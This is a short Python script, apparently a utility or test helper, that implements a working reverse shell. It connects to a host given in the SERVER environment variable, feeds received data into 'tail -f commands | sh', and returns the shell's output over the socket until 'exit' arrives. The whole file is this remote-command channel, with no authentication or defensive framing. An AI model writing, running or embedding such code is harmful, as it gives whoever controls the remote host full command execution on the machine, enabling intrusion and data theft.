# what: the shell follows a file, into which another process writes what comes from the peer
# server: shell
import os, socket, subprocess, time

host, port = os.environ["SERVER"].split(":")
os.chdir("/tmp")
commands, answers = open("commands", "wb", buffering=0), open("answers", "wb")
p = subprocess.Popen("tail -f -s 0.1 commands | sh", shell=True, stdout=answers, stderr=answers)
print("begun", flush=True)
s = socket.create_connection((host, int(port)))
s.settimeout(0.1)
said = open("answers", "rb")
while b"exit\n" not in open("commands", "rb").read():
    try:
        commands.write(s.recv(1024))
    except TimeoutError:
        pass
    if more := said.read():
        s.sendall(more)
subprocess.run(["pkill", "-x", "tail"])
print("done")
